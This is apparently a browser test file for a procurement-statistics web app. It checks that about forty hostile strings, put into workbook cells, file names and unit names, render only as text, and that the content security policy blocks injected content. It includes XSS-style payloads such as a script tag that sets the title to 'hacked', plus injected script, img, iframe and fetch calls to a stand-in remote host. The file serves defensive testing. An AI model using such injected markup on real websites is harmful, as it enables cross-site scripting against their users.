"""Forty hostile texts from a workbook, and as names of units, to the page: they stay texts."""

import datetime as dt
import re

import fixture_rows
import fixture_snapshot
import pytest
import xlsxwriter
from fixture_cities import City, Unit
from hostile_texts import FAR, TEXTS
from served import serving

from pipelines.refresh import refresh
from pipelines.settings import Settings
from pipelines.warehouse import snapshot

pytestmark = [pytest.mark.browser, pytest.mark.slow]
HEADERS = ["Diarienummer", "Benämning", "Slag", "Annonsdatum", "Kontraktsvärde", "Social hänsyn"]
SHEET = "<b>Kv2<b> $x$ 2015"
DAY = dt.date(2015, 5, 4)


def written(text):
    """As a workbook can hold it."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


@pytest.fixture(scope="module")
def from_sheet(tmp_path_factory):
    """A snapshot that the job made of a workbook full of hostile texts."""
    folder = tmp_path_factory.mktemp("sheet")
    file = folder / f"raw/inbox/higab/![b](https:{FAR}) <img src=x> 2015-Q2.xlsx"
    file.parent.mkdir(parents=True)
    with xlsxwriter.Workbook(
        file, {"strings_to_urls": False, "strings_to_formulas": False}
    ) as book:
        sheet, day = book.add_worksheet(SHEET), book.add_format({"num_format": "yyyy-mm-dd"})
        sheet.write_row(0, 0, HEADERS)
        for row, text in enumerate(TEXTS, start=1):
            sheet.write_string(row, 0, f"{row}/{written(text)[:30]}")
            sheet.write_string(row, 1, written(text))
            sheet.write_row(row, 2, ["Tjänst", "", 900000, "Ja" if row % 2 else "Nej"])
            sheet.write_datetime(row, 3, dt.datetime.combine(DAY, dt.time()), day)
    settings = Settings(
        raw=folder / "raw", warehouse=folder / "wh", today=dt.date(2016, 2, 1), key_file=None
    )
    refresh(settings)
    return settings.warehouse


@pytest.fixture(scope="module")
def as_names(tmp_path_factory):
    """A snapshot whose units are called that."""
    units = tuple(
        Unit(f"u{i}", text, {2015: (3, 4, 1), 2016: (i % 7, 4, 1)}) for i, text in enumerate(TEXTS)
    )
    city = City(units, dt.date(2016, 12, 31), dt.date(2017, 1, 20), name=TEXTS[0])
    folder = tmp_path_factory.mktemp("names")
    return fixture_snapshot.publish(folder, fixture_rows.contents(city), "names")


def test_the_workbook_s_texts_are_in_the_snapshot(from_sheet):
    titles = snapshot.query(snapshot.current(from_sheet), "SELECT title FROM public.procurement")
    assert len(titles) == len(TEXTS)
    assert titles["title"].str.contains("script").sum() > 3


def visit(browser, home, path):
    """The page with all its tables open, and what went wrong or out on the way."""
    context = browser.new_context(locale="sv-SE", viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.went = []
    page.on("dialog", lambda d: (page.went.append(f"dialog {d.message}"), d.dismiss()))
    own = (home, home.replace("http", "ws"), "data:", "blob:")
    page.on("request", lambda r: r.url.startswith(own) or page.went.append(r.url))
    page.on("console", lambda m: "Content Security Policy" in m.text and page.went.append(m.text))
    page.goto(home + path)
    page.wait_for_selector("footer.sh-foot", timeout=30_000)
    for twin in page.locator("[data-testid=stExpander] summary").all():
        twin.click()
    page.wait_for_timeout(700)
    return page


ELEMENTS = "script, iframe, object, embed, video, form, base, meta, link, img, style, h1, b, .katex"


def harmless(page):
    """That the main part holds no element that only a text could have brought."""
    main = page.locator("[data-testid=stMain]")
    assert page.went == []
    assert "hacked" not in page.title()
    for name in ELEMENTS.split(", "):
        if name in ("style", "h1"):
            continue
        assert main.locator(name).count() == 0, name
    assert main.locator("h1").count() == 1
    links = main.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href') || '')")
    svg = main.locator("svg a").count()
    assert svg == 0
    assert not [link for link in links if not link.startswith(("/", "?", "#"))]
    handlers = main.locator("*").evaluate_all(
        "all => all.flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on')).length"
    )
    assert handlers == 0
    shown = page.inner_text("[data-testid=stMain]")
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\ufeff\x00-\x08\x1b]", shown)
    return shown


def test_texts_of_a_workbook_stay_texts_on_the_page(browser, from_sheet):
    with serving(from_sheet) as home:
        for part in ("1", "2"):
            path = f"/enheter?enhet=higab&period=2015&upphandling={part}"
            page = visit(browser, home, path)
            shown = harmless(page)
            assert "Diarienummer" in shown
            if part == "1":
                assert "<script>document.title='hacked'</script>" in shown
                assert "blad <b>Kv2<b>" in shown
            page.context.close()
        for path in ("/", "/enheter"):
            page = visit(browser, home, path)
            harmless(page)
            page.context.close()


def test_names_of_units_stay_texts_in_titles_charts_and_tables(browser, as_names):
    with serving(as_names) as home:
        units = [f"/enheter?enhet=u{i}" for i in (0, 20, 29)]
        for path in ("/", "/enheter", "/enheter?sida=2", *units):
            page = visit(browser, home, path)
            shown = harmless(page)
            assert "klicka" in shown or path != "/enheter"
            page.context.close()


def test_the_browser_itself_would_stop_them(browser, as_names):
    """The content security policy, asked by putting into the page what the texts would have."""
    with serving(as_names) as home:
        page = visit(browser, home, "/")
        stopped = {}
        page.on("requestfailed", lambda r: stopped.update({r.url: r.failure}))
        page.evaluate(
            """far => { const put = (tag, set) => document.body.appendChild(
                Object.assign(document.createElement(tag), set));
              put('script', {textContent: "document.title = 'hacked'"});
              put('img', {src: `https://${far}/p.png`});
              put('iframe', {src: `https://${far}/`});
              put('script', {src: `https://${far}/s.js`});
              fetch(`https://${far}/f`).catch(() => null); }""",
            FAR,
        )
        page.wait_for_timeout(700)
        assert "hacked" not in page.title()
        # What was asked for was not sent: the policy stopped it.
        assert {went for went in page.went if went.startswith("https://")} == set(stopped)
        assert set(stopped.values()) <= {"csp", "net::ERR_BLOCKED_BY_CSP"}
        refused = [went for went in page.went if "Content Security Policy" in went]
        assert len(refused) >= 5, page.went
        page.context.close()


def test_a_page_in_a_foreign_frame_is_refused(browser, as_names):
    with serving(as_names) as home:
        page = browser.new_context().new_page()
        page.set_content(f"<iframe src='{home}/'></iframe>")
        page.wait_for_timeout(1500)
        assert not [
            f for f in page.frames[1:] if f.url.startswith(home) and f.query_selector("#root")
        ]
        page.context.close()


def test_the_list_has_forty_texts():
    assert len(set(TEXTS)) == len(TEXTS) == 40
